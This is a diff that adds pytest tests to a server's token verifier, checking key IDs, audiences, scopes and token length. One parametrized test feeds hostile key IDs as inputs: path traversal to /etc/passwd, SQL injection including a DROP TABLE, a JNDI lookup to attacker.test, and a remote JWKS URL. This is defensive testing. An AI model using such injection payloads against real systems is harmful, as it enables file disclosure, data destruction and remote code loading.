@@ -1,12 +1,14 @@
 from __future__ import annotations
 
 import time
+from functools import partial
 from typing import TYPE_CHECKING, Any
 
 import httpx
 import pytest
 
 from case_server.auth import verifier as module
+from case_server.auth.following import signing_keys
 from case_server.auth.issuers import LocalIssuer, TrustedIssuer
 from case_server.auth.scopes import Scope
 from case_server.auth.tokens import SigningKey, new_signing_key, sign
@@ -17,6 +19,8 @@ if TYPE_CHECKING:
     from collections.abc import AsyncIterator
 
     from external_issuer import ExternalIssuer
+
+    from case_server.db.database import Database
 
 HERE = "http://here.test"
 OLD, NEW = new_signing_key(), new_signing_key()
@@ -121,6 +125,82 @@ async def test_a_token_that_names_no_key(verifier: Verifier) -> None:
         nameless = SigningKey(kid, NEW.private_pem)  # type: ignore[arg-type]  # a careless issuer's
 
         assert "does not name a key" in await refusal(verifier, token(nameless))
+
+
+@pytest.mark.parametrize(
+    "kid",
+    [
+        "../../../../etc/passwd",
+        "/dev/null",
+        "file:///dev/null",
+        "https://attacker.test/jwks.json",
+        "' OR '1'='1",
+        "x'; DROP TABLE signing_keys; --",
+        "${jndi:ldap://attacker.test}",
+        "\x00",
+        "",
+        "x" * 4000,
+    ],
+)
+async def test_a_name_of_a_key_is_only_ever_compared(
+    verifier: Verifier, database: Database, kid: str
+) -> None:
+    reloading = LocalIssuer([NEW], HERE, 60, reload=partial(signing_keys, database))
+    for asked in (verifier, Verifier(reloading, [])):
+        named = SigningKey(kid, new_signing_key().private_pem)
+        assert "key that this server does not have" in await refusal(asked, token(named))
+
+
+@pytest.mark.parametrize(
+    ("aud", "accepted"),
+    [
+        ("case", True),
+        (["x", "case"], True),
+        ("case-not", False),
+        ("x case", False),
+        (["CASE"], False),
+        ({"case": 1}, False),
+        ([], False),
+        (None, False),
+    ],
+)
+async def test_the_audience_where_one_is_set(aud: object, accepted: object) -> None:
+    verifier = Verifier(LOCAL, [], audience="case")
+    if accepted:
+        assert await verifier.verify(token(aud=aud))
+    else:
+        assert "another audience" in await refusal(verifier, token(aud=aud))
+
+
+async def test_our_own_tokens_name_the_audience() -> None:
+    issuer = LocalIssuer([NEW], HERE, 60, audience="case")
+    text, _ = issuer.issue("robot", {Scope.READONLY})
+    assert await Verifier(issuer, [], audience="case").verify(text)
+    assert await Verifier(issuer, []).verify(text)
+
+
+@pytest.mark.parametrize(
+    "scope",
+    [
+        "case.readonly",
+        "readonly",
+        Scope.READONLY[:-1],
+        f"x{Scope.READONLY}",
+        Scope.READONLY.upper(),
+        f"{Scope.READONLY},{Scope.DELETE}",
+        [f"{Scope.READONLY} {Scope.DELETE}"],
+        [[Scope.READONLY.value]],
+        {Scope.READONLY.value: True},
+        True,
+    ],
+)
+async def test_what_only_looks_like_a_scope(verifier: Verifier, scope: object) -> None:
+    assert (await verifier.verify(token(scope=scope))).scopes == set()
+
+
+async def test_a_token_that_is_too_long_is_not_even_read(verifier: Verifier) -> None:
+    assert "longer than 8192" in await refusal(verifier, token(pad="x" * 9000))
+    assert "longer than 8192" in await refusal(verifier, "x" * 1_000_000)
 
 
 async def test_without_issuers_nobody_comes_in() -> None:
